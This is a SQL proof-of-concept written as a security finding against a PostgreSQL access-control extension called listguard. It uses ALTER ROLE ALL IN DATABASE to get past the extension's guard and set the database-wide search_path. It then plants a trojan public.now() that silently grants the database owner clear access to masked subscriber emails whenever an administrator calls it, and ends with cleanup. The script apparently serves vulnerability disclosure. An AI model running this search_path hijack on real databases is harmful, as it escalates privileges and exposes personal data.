-- Finding: the database owner sets the database-wide search_path (and
-- row_security, role, session_authorization) with ALTER ROLE ALL IN DATABASE,
-- which PostgreSQL treats exactly as ALTER DATABASE ... SET (same
-- pg_db_role_setting row, same owner check) but which listguard's DDL guard
-- (src/pg/access/role_guard.cpp, check_role_statement: AlterRoleSetStmt with
-- role = NULL -> role_of() = InvalidOid -> guard_role() returns) lets through.
-- Run against the fixture of setup.sql (database atk owned by a_dbo).
\c atk a_dbo
\set VERBOSITY terse
-- Refused, as promised:
ALTER DATABASE atk SET search_path = public, pg_catalog;
-- Accepted: the same setting, spelled as a role setting for all roles.
ALTER ROLE ALL IN DATABASE atk SET search_path = public, pg_catalog;
ALTER ROLE ALL IN DATABASE atk SET "Row_Security" = on;
-- A trojan now() in public, which every later session finds before pg_catalog's.
CREATE OR REPLACE FUNCTION public.now() RETURNS timestamptz LANGUAGE plpgsql AS $$
BEGIN
    IF listguard.current_role_is_admin() THEN
        PERFORM listguard.grant_access('a_dbo', NULL, reveal => 'clear', reason => 'routine');
        EXECUTE 'GRANT SELECT ON public.subs TO a_dbo';
    END IF;
    RETURN pg_catalog.now();
END $$;
\c atk a_admin
SELECT current_setting('search_path') AS admins_search_path;
-- An administrator follows the README's own example:
SELECT listguard.grant_access('a_masked', 1, 10, reveal => 'clear', valid_until => now() + interval '2 hours',
                              reason => 'ticket 4711') IS NOT NULL AS granted;
\c atk a_dbo
SELECT count(*) AS clear_rows_for_db_owner FROM subs WHERE email::text NOT LIKE '%***%';
SELECT email FROM subs ORDER BY id LIMIT 3;
\c atk postgres
ALTER ROLE ALL IN DATABASE atk RESET ALL;
SELECT listguard.revoke_access(id) FROM listguard.grants WHERE grantee = 'a_dbo'::regrole OR (grantee = 'a_masked'::regrole AND list = 10);
REVOKE SELECT ON public.subs FROM a_dbo;
DROP FUNCTION public.now();
